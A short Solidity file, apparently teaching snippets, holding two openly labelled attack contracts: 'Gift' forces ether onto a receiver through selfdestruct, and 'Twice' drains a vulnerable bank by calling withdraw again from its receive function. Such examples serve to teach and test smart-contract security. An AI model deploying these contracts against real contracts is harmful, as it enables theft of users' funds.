// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

// #region attack
contract Gift {
    constructor(address payable receiver) payable {
        selfdestruct(receiver); // runs no code of the receiver, so it cannot be rejected
    }
}
// #endregion attack

// #region second
interface IBank {
    function deposit() external payable;
    function withdraw() external;
}

/// Withdraws, then withdraws again while it is being paid.
contract Twice {
    function attack(IBank bank) external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        if (msg.value > 0) IBank(msg.sender).withdraw();
    }
}
// #endregion second
